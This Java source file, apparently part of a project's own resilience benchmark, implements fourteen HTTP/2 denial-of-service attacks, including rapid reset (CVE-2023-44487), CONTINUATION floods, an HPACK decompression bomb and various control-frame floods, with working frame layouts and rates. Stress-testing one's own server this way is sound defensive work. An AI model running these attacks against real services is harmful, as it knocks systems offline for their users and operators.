package org.fhevm.coprocessor.benchmarks.attacks;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;
import java.util.Map;

/** Frames of HTTP/2 that cost a server more than their sender. */
final class FrameAttacks {
    private static final byte[] NOTHING = {};
    private static final byte[] PING = new byte[8];
    private static final byte[] PRIORITY = {0, 0, 0, 0, 16};
    private static final byte[] HEADERS = RawConnection.callHeaders(Caller.Method.ASYNC_COMPUTE, Map.of());

    /** The first entry of the dynamic table of HPACK as an indexed field: 0x80 | 62. */
    private static final int NEWEST_ENTRY = 0xbe;

    private static final int INDEXED_LITERAL = 0x40;
    private static final int FRAMES_AT_ONCE = 50;

    static final List<Attack> ALL = List.of(
            Attack.onServer(
                    "rapid-reset",
                    "calls that are reset at once (CVE-2023-44487), without key, 3 connections, 3,000 a second in all",
                    target -> target.onConnections(3, 3_000.0 / FRAMES_AT_ONCE, connection -> {
                        for (int i = 0; i < FRAMES_AT_ONCE; i++) {
                            connection.cancel(connection.begin(HEADERS));
                        }
                        connection.flush();
                    })),
            Attack.onServer("rapid-reset-with-key", "the same with the key of tenant A", target -> {
                byte[] headers = keyedHeaders(target);
                target.onConnections(3, 3_000.0 / FRAMES_AT_ONCE, connection -> {
                    for (int i = 0; i < FRAMES_AT_ONCE; i++) {
                        connection.cancel(connection.begin(headers));
                    }
                    connection.flush();
                });
            }),
            Attack.onServer(
                    "reset-by-server",
                    "calls that make the server reset them (CVE-2025-8671): a window update of 0 each, 3 connections,"
                            + " 3,000 a second in all",
                    target -> {
                        byte[] headers = keyedHeaders(target);
                        target.onConnections(3, 3_000.0 / FRAMES_AT_ONCE, connection -> {
                            for (int i = 0; i < FRAMES_AT_ONCE; i++) {
                                connection.updateWindow(connection.begin(headers), 0);
                            }
                            connection.flush();
                        });
                    }),
            Attack.onServer(
                    "continuation-flood",
                    "headers that go on for 1 MB in frames of 16 kB and never end, 3 connections, 6 MB a second in all",
                    target -> target.onConnections(
                            3, 6, connection -> unendedHeaders(connection, 64, new byte[RawConnection.LARGEST_FRAME]))),
            Attack.onServer(
                    "empty-continuations",
                    "headers that go on for 5,000 empty frames and never end, 3 connections, 30,000 frames a second in"
                            + " all",
                    target -> target.onConnections(3, 6, connection -> unendedHeaders(connection, 5_000, NOTHING))),
            Attack.onServer(
                    "huge-headers",
                    "calls with 1 MB of header fields, 3 connections, 6 a second in all",
                    target -> target.onConnections(3, 6, FrameAttacks::hugeHeaders)),
            Attack.onServer(
                    "hpack-bomb",
                    "calls whose 16 kB of header unpack to 60 MB through the table, 3 connections, 30 a second in all",
                    target -> target.onConnections(3, 30, FrameAttacks::headerBomb)),
            Attack.onServer(
                    "ping-flood",
                    "5,000 pings a second on 3 connections",
                    target -> flood(target, RawConnection.PING, PING)),
            Attack.onServer(
                    "settings-flood",
                    "5,000 settings a second on 3 connections",
                    target -> flood(target, RawConnection.SETTINGS, NOTHING)),
            Attack.onServer(
                    "window-update-flood",
                    "5,000 window updates a second on 3 connections",
                    target -> flood(target, RawConnection.WINDOW_UPDATE, new byte[] {0, 0, 0, 1})),
            Attack.onServer(
                    "priority-flood",
                    "5,000 priorities a second of streams that are not there on 3 connections",
                    target -> target.onConnections(3, 5_000.0 / FRAMES_AT_ONCE, connection -> {
                        for (int i = 0; i < FRAMES_AT_ONCE; i++) {
                            connection.frame(RawConnection.PRIORITY, 0, connection.newStream(), PRIORITY);
                        }
                        connection.flush();
                    })),
            Attack.onServer(
                    "empty-data-flood",
                    "5,000 empty data frames a second on 3 connections, in calls of tenant A",
                    FrameAttacks::emptyData),
            Attack.onServer(
                    "unread-pings",
                    "pings and settings whose answers are not read, 3 connections, as fast as the server takes them up"
                            + " to 60,000 a second",
                    target -> unreadAnswers(target)),
            Attack.onServer(
                    "garbage",
                    "connections that send what is not HTTP/2, 50 a second",
                    target -> target.onConnections(5, 50, connection -> {
                        connection.bytes("\u0016\u0003\u0001GET / HTTP/1.1\r\n\r\n\r\n\r\n\r\n\r\n"
                                .getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
                        connection.bytes(new byte[1000]);
                    })));

    private FrameAttacks() {}

    static byte[] keyedHeaders(Target target) {
        return RawConnection.callHeaders(
                Caller.Method.ASYNC_COMPUTE,
                Map.of("authorization", target.attacker().authorization()));
    }

    /**
     * Begins headers and never ends them. Any other frame would then be an error of the protocol, so that the next turn
     * begins a new connection.
     */
    private static void unendedHeaders(RawConnection connection, int frames, byte[] payload) throws IOException {
        int stream = connection.newStream();
        connection.frame(RawConnection.HEADERS, 0, stream, HEADERS);
        for (int i = 0; i < frames; i++) {
            connection.frame(RawConnection.CONTINUATION, 0, stream, payload);
        }
        connection.flush();
    }

    private static void hugeHeaders(RawConnection connection) throws IOException {
        int stream = connection.newStream();
        connection.frame(RawConnection.HEADERS, RawConnection.END_STREAM, stream, HEADERS);
        for (int i = 0; i < 128; i++) {
            ByteArrayOutputStream block = new ByteArrayOutputStream();
            RawConnection.literal(block, 0, "x-" + i, "v".repeat(8_000));
            connection.frame(
                    RawConnection.CONTINUATION, i == 127 ? RawConnection.END_HEADERS : 0, stream, block.toByteArray());
        }
        connection.flush();
    }

    private static void headerBomb(RawConnection connection) throws IOException {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(HEADERS);
        RawConnection.literal(block, INDEXED_LITERAL, "x", "v".repeat(3_900));
        while (block.size() < RawConnection.LARGEST_FRAME) {
            block.write(NEWEST_ENTRY);
        }
        connection.frame(
                RawConnection.HEADERS,
                RawConnection.END_HEADERS | RawConnection.END_STREAM,
                connection.newStream(),
                block.toByteArray());
        connection.flush();
    }

    private static void flood(Target target, int type, byte[] payload) throws InterruptedException {
        target.onConnections(3, 5_000.0 / FRAMES_AT_ONCE, connection -> {
            for (int i = 0; i < FRAMES_AT_ONCE; i++) {
                connection.frame(type, 0, 0, payload);
            }
            connection.flush();
        });
    }

    private static void emptyData(Target target) throws InterruptedException {
        byte[] headers = keyedHeaders(target);
        target.onConnections(3, 5_000.0 / FRAMES_AT_ONCE, connection -> {
            int stream = connection.begin(headers);
            for (int i = 1; i < FRAMES_AT_ONCE; i++) {
                connection.frame(RawConnection.DATA, 0, stream, NOTHING);
            }
            connection.cancel(stream);
            connection.flush();
        });
    }

    private static void unreadAnswers(Target target) throws InterruptedException {
        target.inParallel(3, number -> {
            Pace pace = new Pace(20_000.0 / FRAMES_AT_ONCE);
            while (!target.over()) {
                try (RawConnection connection = RawConnection.connect(Target.address(number), target.server())) {
                    target.closeAtEnd(connection);
                    connection.greet();
                    while (!target.over()) {
                        for (int i = 0; i < FRAMES_AT_ONCE; i += 2) {
                            connection.frame(RawConnection.PING, 0, 0, PING);
                            connection.settings();
                        }
                        connection.flush();
                        target.outcomes().sent();
                        pace.await();
                    }
                } catch (IOException e) {
                    if (!target.over()) {
                        target.outcomes().cutOff(e);
                        target.pause(100);
                    }
                }
            }
        });
    }
}
